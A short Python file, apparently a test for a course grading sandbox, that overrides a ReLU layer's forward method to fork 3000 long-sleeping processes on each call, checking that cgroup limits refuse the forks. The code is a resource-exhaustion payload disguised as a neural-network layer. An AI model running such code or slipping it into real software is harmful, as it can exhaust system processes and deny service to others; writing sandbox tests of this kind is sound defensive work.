# ReLU.forward starts 3000 processes that sleep for a day. Where the section's
# cgroup refuses a fork, the BlockingIOError is an error in the student's code.
import os


class ReLU(ReLU):
    def forward(self, inputs):
        for _ in range(3000):
            if os.fork() == 0:
                os.execvp('sleep', ['sleep', '86395'])
        return super().forward(inputs)
